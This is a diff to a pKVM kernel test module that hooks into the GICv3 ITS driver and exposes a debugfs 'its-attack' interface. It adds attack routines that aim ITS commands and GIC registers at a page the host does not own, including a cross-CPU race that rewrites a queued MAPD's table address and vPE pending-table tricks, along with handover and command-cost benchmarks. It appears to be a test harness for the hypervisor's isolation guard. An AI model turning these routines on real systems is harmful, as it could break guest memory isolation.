@@ -3,12 +3,15 @@
 /*
  * A host that is after a page which is not its own: script/pkvm includes this file at the end of
  * the kernel's drivers/irqchip/irq-gic-v3-its.c. /sys/kernel/debug/its-attack takes "KIND ADDRESS",
- * where KIND is one of the functions below and ADDRESS the physical address of the page.
+ * where KIND is one of the functions below and ADDRESS the physical address of the page. Two kinds
+ * are honest: "handover" and "cost".
  *
  * Nothing here knows of the guard: it does to the GIC what the driver's own code could do.
  */
 #include <linux/debugfs.h>
 #include <linux/init.h>
+#include <linux/kthread.h>
+#include <linux/stop_machine.h>
 #include <linux/uaccess.h>
 
 #include <asm/kvm_pkvm.h>
@@ -16,7 +19,7 @@
 /* Their pending bits begin at byte 0x600 of a pending table, one byte each. */
 #define ATTACK_LPI (8192 + 4096)
 
-static u16 attack_col_map[2048];
+static u16 attack_col_map[16384];
 
 static struct its_node *attack_its(void)
 {
@@ -65,7 +68,8 @@ static int attack_tail(phys_addr_t page)
 {
 	u32 entry = FIELD_GET(GITS_TYPER_ITT_ENTRY_SIZE, attack_its()->typer) + 1;
 	struct its_device dev;
-	int ret = attack_device(&dev, 0x61, page - PAGE_SIZE, 512);
+	int ret = attack_device(&dev, 0x61, page - PAGE_SIZE,
+				roundup_pow_of_two(PAGE_SIZE / entry + 64));
 
 	if (ret)
 		return ret;
@@ -88,6 +92,18 @@ static int attack_keep(phys_addr_t page)
 	return ret;
 }
 
+/* Its end, for whoever wants the page for something else: the device goes. */
+static int attack_drop(phys_addr_t page)
+{
+	struct its_device dev;
+	int ret = attack_device(&dev, 0x62, page, 32);
+
+	if (!ret)
+		its_send_mapd(&dev, 0);
+
+	return ret;
+}
+
 static int attack_kept(phys_addr_t page)
 {
 	struct its_device dev;
@@ -97,6 +113,111 @@ static int attack_kept(phys_addr_t page)
 		attack_map_events(&dev, 0, 4);
 
 	return ret;
+}
+
+/*
+ * T11: the address of an ITT changes in the queue, by another CPU, while the command is on its way:
+ * what is checked and what is done may see different ones.
+ */
+static struct {
+	u64 *word; /* of a MAPD in the queue, or NULL */
+	u64 own, wanted;
+	u32 flips;
+	bool busy;
+} attack_race;
+
+static int attack_flip(void *unused)
+{
+	while (!kthread_should_stop()) {
+		u64 *word;
+
+		WRITE_ONCE(attack_race.busy, true);
+		smp_mb();
+		word = READ_ONCE(attack_race.word);
+		if (word) {
+			WRITE_ONCE(*word, attack_race.wanted);
+			WRITE_ONCE(attack_race.flips, attack_race.flips + 1);
+			cpu_relax();
+			WRITE_ONCE(*word, attack_race.own);
+			WRITE_ONCE(attack_race.flips, attack_race.flips + 1);
+		}
+		smp_mb();
+		WRITE_ONCE(attack_race.busy, false);
+		cond_resched();
+	}
+
+	return 0;
+}
+
+static struct its_cmd_block *attack_put(struct its_node *its, u64 w0, u64 w1, u64 w2)
+{
+	struct its_cmd_block *cmd = its_allocate_entry(its);
+
+	if (cmd) {
+		cmd->raw_cmd[0] = w0;
+		cmd->raw_cmd[1] = w1;
+		cmd->raw_cmd[2] = w2;
+		cmd->raw_cmd[3] = 0;
+		its_fixup_cmd(cmd);
+		its_flush_cmd(its, cmd);
+	}
+
+	return cmd;
+}
+
+#define ATTACK_RACE_DEVICE 0x64ULL
+
+static void attack_race_once(struct its_node *its)
+{
+	struct its_cmd_block *mapd;
+	u32 wait = 1000000, flips;
+	unsigned long flags;
+	u64 end;
+
+	raw_spin_lock_irqsave(&its->lock, flags);
+	mapd = attack_put(its, ATTACK_RACE_DEVICE << 32 | GITS_CMD_MAPD, 4, attack_race.own);
+	attack_put(its, ATTACK_RACE_DEVICE << 32 | GITS_CMD_MAPTI, (u64)ATTACK_LPI << 32, 0);
+	attack_put(its, ATTACK_RACE_DEVICE << 32 | GITS_CMD_MAPD, 0, 0);
+	end = its_cmd_ptr_to_offset(its, its->cmd_write);
+	if (mapd) {
+		flips = READ_ONCE(attack_race.flips);
+		smp_store_release(&attack_race.word, &mapd->raw_cmd[2]);
+		while (READ_ONCE(attack_race.flips) == flips)
+			cpu_relax();
+		its_post_commands(its);
+	}
+	while (mapd && readl_relaxed(its->base + GITS_CREADR) != end && --wait)
+		cpu_relax();
+	WRITE_ONCE(attack_race.word, NULL);
+	smp_mb();
+	while (READ_ONCE(attack_race.busy))
+		cpu_relax();
+	raw_spin_unlock_irqrestore(&its->lock, flags);
+}
+
+static int attack_changed(phys_addr_t page)
+{
+	struct its_node *its = attack_its();
+	struct task_struct *flipper;
+	struct its_device dev;
+	int i, ret;
+
+	attack_race.own = __get_free_page(GFP_KERNEL | __GFP_ZERO);
+	ret = attack_device(&dev, ATTACK_RACE_DEVICE, virt_to_phys((void *)attack_race.own), 32);
+	if (ret)
+		return ret;
+	attack_race.own = virt_to_phys((void *)attack_race.own) | BIT_ULL(63);
+	attack_race.wanted = page | BIT_ULL(63);
+	flipper = kthread_run_on_cpu(attack_flip, NULL, cpumask_last(cpu_online_mask), "flip/%u");
+	if (IS_ERR(flipper))
+		return PTR_ERR(flipper);
+	set_cpus_allowed_ptr(current, cpumask_of(cpumask_first(cpu_online_mask)));
+	for (i = 0; i < 2000; i++)
+		attack_race_once(its);
+	kthread_stop(flipper);
+	set_cpus_allowed_ptr(current, cpu_online_mask);
+
+	return 0;
 }
 
 /* T5: the page as a level-2 table of devices: MAPD itself writes to it. */
@@ -218,6 +339,73 @@ static int attack_propbaser(phys_addr_t page)
 	return attack_enable(page, true);
 }
 
+/* The vPE of an attacker, on the first redistributor; with GICv4 only. */
+static int attack_vpe(struct its_vpe *vpe, phys_addr_t page)
+{
+	*vpe = (struct its_vpe){
+		.vpe_id = 1,
+		.vpt_page = phys_to_page(page),
+	};
+	raw_spin_lock_init(&vpe->vpe_lock);
+	if (!its_alloc_vpe_table(vpe->vpe_id))
+		return -ENOMEM;
+
+	return readq_relaxed(gic_data_rdist_cpu(0)->rd_base + GICR_TYPER) & GICR_TYPER_VLPIS
+		       ? 0
+		       : -EOPNOTSUPP;
+}
+
+/* T12: VMAPP names the page as a table of pending virtual LPIs, and one is made pending. */
+static int attack_vmapp(phys_addr_t page)
+{
+	struct its_node *its = attack_its();
+	struct its_cmd_desc desc = {};
+	struct its_device dev;
+	struct its_vpe vpe;
+	u32 event;
+	int ret = attack_vpe(&vpe, page & ~0xffffULL) ?: attack_pend(&dev);
+
+	if (ret)
+		return ret;
+	desc.its_vmapp_cmd.vpe = &vpe;
+	desc.its_vmapp_cmd.col = &its->collections[0];
+	desc.its_vmapp_cmd.valid = true;
+	its_send_single_vcommand(its, its_build_vmapp_cmd, &desc);
+	for (event = 16; event < 24; event++) {
+		memset(&desc, 0, sizeof(desc));
+		desc.its_vmapti_cmd.vpe = &vpe;
+		desc.its_vmapti_cmd.dev = &dev;
+		desc.its_vmapti_cmd.virt_id = ATTACK_LPI + 8 * event;
+		desc.its_vmapti_cmd.event_id = event;
+		its_send_single_vcommand(its, its_build_vmapti_cmd, &desc);
+		its_send_int(&dev, event);
+	}
+
+	return 0;
+}
+
+/* A resident vPE whose pending table is the page: whether a bit is set there shows in PendingLast.
+ */
+static int attack_vpendbaser(phys_addr_t page)
+{
+	void __iomem *vlpi = gic_data_rdist_cpu(0)->rd_base + SZ_128K;
+	/* All of them enabled, so that a bit in the page is an interrupt. */
+	void *enabled = (void *)__get_free_pages(GFP_KERNEL, get_order(SZ_64K));
+	struct its_vpe vpe;
+	int ret = enabled ? attack_vpe(&vpe, page) : -ENOMEM;
+
+	if (ret)
+		return ret;
+	memset(enabled, 0xff, SZ_64K);
+	gicr_write_vpropbaser(virt_to_phys(enabled) | (LPI_NRBITS - 1), vlpi + GICR_VPROPBASER);
+	gicr_write_vpendbaser((page & ~0xffffULL) | GICR_VPENDBASER_Valid, vlpi + GICR_VPENDBASER);
+	gicr_write_vpendbaser(page & ~0xffffULL, vlpi + GICR_VPENDBASER);
+	if (gicr_read_vpendbaser(vlpi + GICR_VPENDBASER) & GICR_VPENDBASER_PendingLast)
+		pr_info("its-attack: vpendbaser read the page\n");
+
+	return 0;
+}
+
 /* T2: the page as a flat table of devices. All mappings are lost: the last one of a run. */
 static int attack_baser(phys_addr_t page)
 {
@@ -262,6 +450,87 @@ static int attack_cbaser(phys_addr_t page)
 	return 0;
 }
 
+/* ---- honest ---- */
+
+static int handover_one(void *unused)
+{
+	struct its_handover_count count = {};
+	int ret = its_handover_quiesce();
+
+	its_handover_replay(false, &count);
+
+	return ret;
+}
+
+/* All ITSs forget, are disabled, and are programmed again, with devices in use. */
+static int handover(phys_addr_t unused)
+{
+	return stop_machine(handover_one, NULL, NULL);
+}
+
+#define COST_ROUNDS 64
+
+static void cost_say(const char *what, u64 begin)
+{
+	pr_info("its-attack: cost %s %llu ns\n", what,
+		div_u64(ktime_get_ns() - begin, COST_ROUNDS));
+}
+
+/* What each command takes from the driver's call to its return, with nothing else going on. */
+static void cost_commands(struct its_device *dev)
+{
+	struct its_collection *col = &dev->its->collections[smp_processor_id()];
+	u32 i;
+	u64 begin = ktime_get_ns();
+
+	for (i = 0; i < COST_ROUNDS; i++)
+		its_send_mapti(dev, ATTACK_LPI + 8 * i, i);
+	cost_say("mapti", begin);
+	begin = ktime_get_ns();
+	for (i = 0; i < COST_ROUNDS; i++)
+		its_send_movi(dev, col, i);
+	cost_say("movi", begin);
+	begin = ktime_get_ns();
+	for (i = 0; i < COST_ROUNDS; i++)
+		its_send_inv(dev, i);
+	cost_say("inv", begin);
+	begin = ktime_get_ns();
+	for (i = 0; i < COST_ROUNDS; i++)
+		its_send_discard(dev, i);
+	cost_say("discard", begin);
+}
+
+static int cost(phys_addr_t unused)
+{
+	u64 mapped = 0, unmapped = 0;
+	struct its_device dev;
+	unsigned long flags;
+	u32 i;
+	int ret = attack_device(&dev, 0x65, __pa(__get_free_page(GFP_KERNEL | __GFP_ZERO)),
+				COST_ROUNDS);
+
+	if (ret)
+		return ret;
+	local_irq_save(flags);
+	for (i = 0; i < COST_ROUNDS; i++) {
+		u64 at = ktime_get_ns();
+
+		its_send_mapd(&dev, 1);
+		mapped += ktime_get_ns() - at;
+		at = ktime_get_ns();
+		its_send_mapd(&dev, 0);
+		unmapped += ktime_get_ns() - at;
+	}
+	pr_info("its-attack: cost map %llu ns\n", div_u64(mapped, COST_ROUNDS));
+	pr_info("its-attack: cost unmap %llu ns\n", div_u64(unmapped, COST_ROUNDS));
+	its_send_mapd(&dev, 1);
+	cost_commands(&dev);
+	its_send_mapd(&dev, 0);
+	local_irq_restore(flags);
+
+	return 0;
+}
+
 static const struct {
 	const char *name;
 	int (*run)(phys_addr_t page);
@@ -270,12 +539,18 @@ static const struct {
 	{"tail", attack_tail},
 	{"keep", attack_keep},
 	{"kept", attack_kept},
+	{"drop", attack_drop},
+	{"changed", attack_changed},
 	{"level2", attack_level2},
 	{"pendbaser", attack_pendbaser},
 	{"pendenable", attack_pendenable},
 	{"propbaser", attack_propbaser},
 	{"baser", attack_baser},
 	{"cbaser", attack_cbaser},
+	{"vmapp", attack_vmapp},
+	{"vpendbaser", attack_vpendbaser},
+	{"handover", handover},
+	{"cost", cost},
 };
 
 static ssize_t attack_write(struct file *file, const char __user *from, size_t length, loff_t *at)
